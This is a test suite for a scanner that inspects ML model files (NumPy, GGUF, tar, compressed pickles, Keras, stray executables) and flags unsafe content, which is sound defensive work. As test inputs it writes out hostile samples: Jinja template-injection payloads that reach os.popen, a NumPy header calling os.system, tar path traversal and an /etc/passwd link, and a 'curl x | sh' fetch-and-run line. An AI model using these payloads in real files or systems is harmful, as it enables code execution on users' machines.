import { gzipSync, deflateSync } from 'node:zlib';
import { verdictOf } from '../../src/core/findings.js';
import { createFileScanner } from '../../src/scan/file-scanner.js';
import { benignPickle, blocking, cat, checks, enc, evilPickle, floatData, gguf, latin, npy, scanBytes, tar, u16, u32 } from './support/fixtures.js';

const approved = (o: ReturnType<typeof scanBytes>): void => {
  expect(o.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  expect(o.complete).toBe(true);
};
const critical = (o: ReturnType<typeof scanBytes>): boolean => o.findings.some((f) => f.severity === 'critical');

describe('NumPy .npy', () => {
  test.each([['<f4', [3, 4], floatData(12)], ['|b1', [5], new Uint8Array(5)], ['<i8', [2, 2], new Uint8Array(32)], ['<U3', [2], new Uint8Array(24)], ['<c16', [1], new Uint8Array(16)]] as const)(
    'benign %s stays approved', (descr, shape, body) => {
      approved(scanBytes(npy(descr, [...shape], body), 'w.npy', { chunk: 7 }));
    });

  test('structured dtype and version 2.0 header', () => {
    const h = "{'descr': [('a', '<f4'), ('b', '<i2')], 'fortran_order': False, 'shape': (2,), }";
    const padded = h + ' '.repeat((64 - ((12 + h.length + 1) % 64)) % 64) + '\n';
    approved(scanBytes(cat([0x93], 'NUMPY', [2, 0], u32(padded.length), padded, new Uint8Array(12)), 's.npy'));
  });

  test('object dtype: the body is a pickle and it is scanned', () => {
    const o = scanBytes(npy('|O', [1], evilPickle()), 'weights.npy');
    expect(checks(o)).toContain('numpy.object-dtype');
    expect(critical(o)).toBe(true);
    const benign = scanBytes(npy('|O', [1], benignPickle()), 'weights.npy');
    expect(benign.formats).toEqual(['numpy', 'pickle']);
    expect(verdictOf(benign.findings)).toBe('approved');
  });

  test('object dtype inside a structured descr', () => {
    const h = "{'descr': [('x', '<f4'), ('y', '|O')], 'fortran_order': False, 'shape': (1,), }";
    const o = scanBytes(cat([0x93], 'NUMPY', [1, 0], u16(h.length + 1), h, '\n', evilPickle()), 'a.npy');
    expect(critical(o)).toBe(true);
  });

  test('a header that would need evaluation is rejected, not evaluated', () => {
    const h = "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }\n";
    const o = scanBytes(cat([0x93], 'NUMPY', [1, 0], u16(h.length), h, new Uint8Array(4)), 'a.npy');
    expect(checks(o)).toContain('numpy.invalid');
    expect(o.complete).toBe(false);
  });

  test('bytes after the array are a polyglot and get scanned', () => {
    const o = scanBytes(cat(npy('<f4', [2], floatData(2)), evilPickle()), 'w.npy');
    expect(checks(o)).toContain('numpy.trailing-bytes');
    expect(critical(o)).toBe(true);
  });
});

describe('GGUF', () => {
  const benignTemplate = "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}";
  test('benign GGUF with a chat template and a vocabulary stays approved', () => {
    const g = gguf([['general.architecture', 'str', 'llama'], ['general.alignment', 'u32', 32], ['tokenizer.ggml.tokens', 'strarr', ['<s>', '</s>', 'a', 'b']], ['tokenizer.chat_template', 'str', benignTemplate]], 2);
    for (const chunk of [1, 7, 1 << 20]) {
      const o = scanBytes(g, 'model.Q4_K_M.gguf', { chunk });
      expect(o.formats).toEqual(['gguf']);
      approved(o);
    }
  });

  test.each([
    ["{{ ''.__class__.__mro__[1].__subclasses__() }}", 'template.injection'],
    ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", 'template.injection'],
    ["{{ self._TemplateReference__context }}", 'template.injection'],
    ["{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", 'template.injection'],
    ["{% set a = messages|attr(name) %}", 'template.suspicious']
  ])('template injection %s', (tpl, check) => {
    const o = scanBytes(gguf([['tokenizer.chat_template', 'str', tpl]]), 'm.gguf');
    expect(checks(o)).toContain(check);
    expect(blocking(o)).toBe(true);
  });

  test('named templates (tokenizer.chat_template.<name>) are checked too', () => {
    expect(checks(scanBytes(gguf([['tokenizer.chat_template.tool_use', 'str', '{{ lipsum.__globals__ }}']]), 'm.gguf'))).toContain('template.injection');
  });

  test('truncated metadata fails closed', () => {
    const g = gguf([['tokenizer.chat_template', 'str', benignTemplate]]);
    const o = scanBytes(g.subarray(0, 40), 'm.gguf');
    expect(checks(o)).toContain('gguf.invalid');
    expect(o.complete).toBe(false);
  });

  test('tokenizer_config.json chat templates', () => {
    approved(scanBytes(enc(JSON.stringify({ chat_template: benignTemplate, eos_token: '</s>' })), 'tokenizer_config.json'));
    const bad = scanBytes(enc(JSON.stringify({ chat_template: [{ name: 'default', template: "{{ request.__class__ }}" }] })), 'tokenizer_config.json');
    expect(checks(bad)).toContain('template.injection');
  });
});

describe('tar (incl. legacy torch layout)', () => {
  test('benign legacy torch tar: every member scanned', () => {
    const t = tar([{ name: 'sys_info', data: benignPickle() }, { name: 'pickle', data: benignPickle() }, { name: 'tensors', data: benignPickle() }, { name: 'storages', data: benignPickle() }]);
    const o = scanBytes(t, 'old_model.tar', { chunk: 7 });
    expect(o.formats).toEqual(['tar', 'pytorch-legacy-tar']);
    approved(o);
  });
  test('a payload in any member is found', () => {
    const o = scanBytes(tar([{ name: 'sys_info', data: benignPickle() }, { name: 'storages', data: evilPickle() }]), 'model.tar');
    expect(critical(o)).toBe(true);
  });
  test('path traversal and links', () => {
    const o = scanBytes(tar([{ name: '../evil.py', data: enc('print(1)\n') }, { name: 'l', data: new Uint8Array(0), type: '2', link: '/etc/passwd' }]), 'a.tar');
    expect(checks(o)).toEqual(expect.arrayContaining(['tar.path-traversal', 'tar.link']));
  });
  test('a corrupt header fails closed', () => {
    const t = tar([{ name: 'a', data: enc('x') }, { name: 'b', data: enc('y') }]);
    t[512 + 512 + 3]! ^= 0xff; // second header's name byte: checksum no longer matches
    const o = scanBytes(t, 'a.tar');
    expect(checks(o)).toContain('tar.invalid');
    expect(o.complete).toBe(false);
  });
});

describe('compression wrappers', () => {
  test("gzip'd pickle: benign approved, payload caught", () => {
    approved(scanBytes(new Uint8Array(gzipSync(benignPickle())), 'model.pkl.gz', { chunk: 3 }));
    const o = scanBytes(new Uint8Array(gzipSync(evilPickle())), 'model.pkl.gz');
    expect(o.formats).toEqual(expect.arrayContaining(['gzip', 'pickle']));
    expect(critical(o)).toBe(true);
  });
  test('zlib and joblib ZF wrappers', () => {
    expect(critical(scanBytes(new Uint8Array(deflateSync(evilPickle())), 'model.joblib'))).toBe(true);
    const zf = cat(`ZF${`0x${evilPickle().length.toString(16)}`.padEnd(19, ' ')} `, new Uint8Array(deflateSync(evilPickle())));
    expect(critical(scanBytes(zf, 'model.pkl'))).toBe(true);
  });
  test('gzip inside gzip inside gzip… stops at the depth limit', () => {
    let b = evilPickle();
    for (let i = 0; i < 5; i++) b = new Uint8Array(gzipSync(b));
    const o = scanBytes(b, 'x.gz');
    expect(checks(o)).toContain('compression.depth');
    expect(o.complete).toBe(false);
  });
  test('compression bomb: ratio limit', () => {
    const bomb = new Uint8Array(gzipSync(new Uint8Array(64 * 1024 * 1024)));
    const s = createFileScanner({ path: 'bomb.gz', size: bomb.length }, { limits: { ratioMinBytes: 1024 * 1024, maxRatio: 200 } });
    s.push(bomb);
    const o = s.end();
    expect(checks(o)).toContain('compression.bomb');
    expect(o.complete).toBe(false);
  });
  test('compression bomb: size limit', () => {
    const bomb = new Uint8Array(gzipSync(new Uint8Array(4 * 1024 * 1024)));
    const s = createFileScanner({ path: 'bomb.gz', size: bomb.length }, { limits: { maxDecompressedBytes: 1024 * 1024 } });
    s.push(bomb);
    expect(checks(s.end())).toContain('compression.limit');
  });
  test('7z cannot be decoded here: fails closed', () => {
    const o = scanBytes(cat('7z', [0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0]), 'model.bin');
    expect(checks(o)).toContain('compression.unscannable');
    expect(o.complete).toBe(false);
  });
  // bz2, xz, lzma and lz4 are decoded now (__tests__/scan/compression-formats.test.ts): these cut streams fail closed.
  test.each([['bz2', latin('BZh91AY&SY\x00\x00\x00')], ['xz', cat([0xfd], '7zXZ', [0, 0, 4, 0xe6])], ['lz4', cat([0x04, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7])],
    ['lzma', cat([0x5d, 0, 0, 0x80, 0], new Array(8).fill(0xff), [0, 1, 2])]])(
    'a truncated %s stream fails closed', (_n, b) => {
      const o = scanBytes(b, 'model.bin');
      expect(checks(o)).toContain('compression.invalid');
      expect(o.complete).toBe(false);
    });
  test('a corrupt gzip stream fails closed', () => {
    const g = new Uint8Array(gzipSync(benignPickle()));
    g[12]! ^= 0xff; g[13]! ^= 0xff;
    const o = scanBytes(g, 'a.gz');
    expect(blocking(o)).toBe(true);
    const cut = scanBytes(new Uint8Array(gzipSync(benignPickle())).subarray(0, 15), 'a.gz');
    expect(cut.complete).toBe(false);
    expect(checks(cut)).toContain('compression.invalid');
  });
});

describe('Keras', () => {
  const lambdaConfig = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAA' } } } }] } };
  test('.h5 with a Lambda layer in model_config', () => {
    const h5 = cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(3000), 'model_config\0', enc(JSON.stringify(lambdaConfig)), new Uint8Array(500));
    for (const chunk of [1, 64, 1 << 20]) {
      const o = scanBytes(h5, 'model.h5', { chunk });
      expect(checks(o)).toContain('keras.lambda');
      expect(critical(o)).toBe(true);
    }
  });
  test('.h5 with a benign config stays approved', () => {
    const cfg = { class_name: 'Sequential', config: { layers: [{ class_name: 'Dense', config: { units: 4, activation: 'relu' } }] }, keras_version: '2.15.0' };
    approved(scanBytes(cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(1000), enc(JSON.stringify(cfg)), new Uint8Array(100)), 'model.h5'));
  });
  test('.h5: a Lambda config with its keys reordered and spaced out is still found', () => {
    const sneaky = '{ "config" : { "layers" : [ {"config": {"function": {"config": {"code": "4wEA"}, "class_name": "__lambda__"}}, "class_name": "Lambda"} ] } ,\n "class_name": "Sequential" }';
    for (const chunk of [1, 7, 1 << 20]) {
      const o = scanBytes(cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(2000), [0x00, 0x12], sneaky, new Uint8Array(300)), 'model.h5', { chunk });
      expect(checks(o)).toContain('keras.lambda');
    }
  });
  test('.h5: a full save with a training config (optimizer class_name) stays approved', () => {
    const model = { class_name: 'Sequential', config: { layers: [{ class_name: 'Dense', config: { units: 2 } }] }, keras_version: '2.15.0' };
    const training = { loss: 'mse', optimizer_config: { class_name: 'Adam', config: { learning_rate: 0.001 } } };
    approved(scanBytes(cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(800), [0], JSON.stringify(model), new Uint8Array(64), [0], JSON.stringify(training), new Uint8Array(64)), 'model.h5'));
  });
  test('.h5: Keras objects that are not inside a parseable document fail closed', () => {
    // Preceded by text, so not captured as a document; or broken JSON: either way not examined.
    const hidden = cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(100), 'x{"class_name": "Lambda", "config": {}}', new Uint8Array(10));
    const broken = cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(100), [0], '{"class_name": "Lambda", "config": {"a": 1,,}}', new Uint8Array(10));
    for (const bytes of [hidden, broken]) {
      const o = scanBytes(bytes, 'model.h5');
      expect(checks(o)).toContain('keras.config-unexamined');
      expect(o.complete).toBe(false);
    }
  });
  test('.keras config: foreign module, TorchModuleWrapper, safe_mode off, get_file', () => {
    const cfg = { module: 'keras', class_name: 'Functional', config: { safe_mode: false, layers: [
      { module: 'os', class_name: 'system', config: {} },
      { module: 'keras.layers', class_name: 'TorchModuleWrapper', config: {} },
      { module: 'keras.layers', class_name: 'Dense', config: { name: 'keras.utils.get_file' } }
    ] } };
    const o = scanBytes(enc(JSON.stringify(cfg)), 'config.json');
    expect(checks(o)).toEqual(expect.arrayContaining(['keras.module', 'keras.torch-module-wrapper', 'keras.safe-mode-off', 'keras.get-file']));
    expect(o.findings.find((f) => f.check === 'keras.module')?.severity).toBe('critical');
  });
});

describe('executables, unknown binaries, names that lie', () => {
  const elf = cat([0x7f], 'ELF', [2, 1, 1, 0], new Uint8Array(8), u16(2), u16(0x3e), new Uint8Array(100));
  test('an ELF named tokenizer.model is a critical executable', () => {
    const o = scanBytes(elf, 'tokenizer.model');
    expect(o.formats).toEqual(['elf']);
    expect(o.findings.find((f) => f.check === 'file.executable')).toMatchObject({ severity: 'critical', message: expect.stringMatching(/ELF executable \(x86-64, 64-bit\)/) });
    expect(checks(o)).toContain('file.extension-mismatch');
  });
  test.each([
    ['PE', (() => { const b = new Uint8Array(512); b.set(latin('MZ')); b.set(u32(0x80), 0x3c); b.set(latin('PE\0\0'), 0x80); b.set(u16(0x8664), 0x84); return b; })()],
    ['Mach-O', cat([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(60))],
    ['wasm', cat([0], 'asm', [1, 0, 0, 0], new Uint8Array(20))],
    ['dex', cat('dex\n035\0', new Uint8Array(100))]
  ])('%s', (_n, b) => {
    expect(scanBytes(b, 'config.json').findings.find((f) => f.check === 'file.executable')?.severity).toBe('critical');
  });
  test('unknown binary is a blocking finding, not clean', () => {
    const b = new Uint8Array(2048);
    for (let i = 0; i < b.length; i++) b[i] = (i * 2654435761) >>> 24;
    b[0] = 0xfe; b[1] = 0;
    const o = scanBytes(b, 'weights.dat');
    expect(checks(o)).toEqual(['file.unknown-binary']);
    expect(verdictOf(o.findings)).toBe('rejected');
  });
  test('a pickle named config.json, weights.npy or with no extension is a pickle', () => {
    for (const name of ['config.json', 'weights.npy', 'model']) {
      const o = scanBytes(evilPickle(), name);
      expect(o.formats).toContain('pickle');
      expect(critical(o)).toBe(true);
    }
  });
  test('names with two readings: a pickle named .model (gensim) or .pth.tar (torch) is not a name mismatch, and still a pickle', () => {
    for (const name of ['word2vec.model', 'checkpoint.pth.tar']) {
      const o = scanBytes(evilPickle(), name);
      expect(checks(o)).not.toContain('file.extension-mismatch');
      expect(critical(o)).toBe(true);
    }
    // A plain .tar promises a tar: a pickle under that name is still a mismatch.
    expect(checks(scanBytes(evilPickle(), 'backup.tar'))).toContain('file.extension-mismatch');
  });
  test('polyglot: a GGUF that is also a pickle is reported as such', () => {
    const o = scanBytes(cat(evilPickle(), gguf([['a', 'u32', 1]])), 'model.gguf');
    expect(critical(o)).toBe(true);
    expect(checks(o)).toContain('file.extension-mismatch');
  });
  test('a file that arrives shorter than announced fails closed', () => {
    const s = createFileScanner({ path: 'a.json', size: 100 });
    s.push(enc('{}'));
    const o = s.end();
    expect(checks(o)).toContain('file.size-mismatch');
    expect(o.complete).toBe(false);
  });
  test('text files are classified and left to the code analyzers (hook)', () => {
    const seen: string[][] = [];
    const s = createFileScanner({ path: 'scripts/setup.py' }, { textAnalyzers: [(_ctx, f) => { seen.push([...f]); return undefined; }] });
    s.push(enc('import os\nos.system("curl x | sh")\n'));
    const o = s.end();
    expect(o.formats).toEqual(['python']);
    expect(seen).toEqual([['python']]);
  });
});

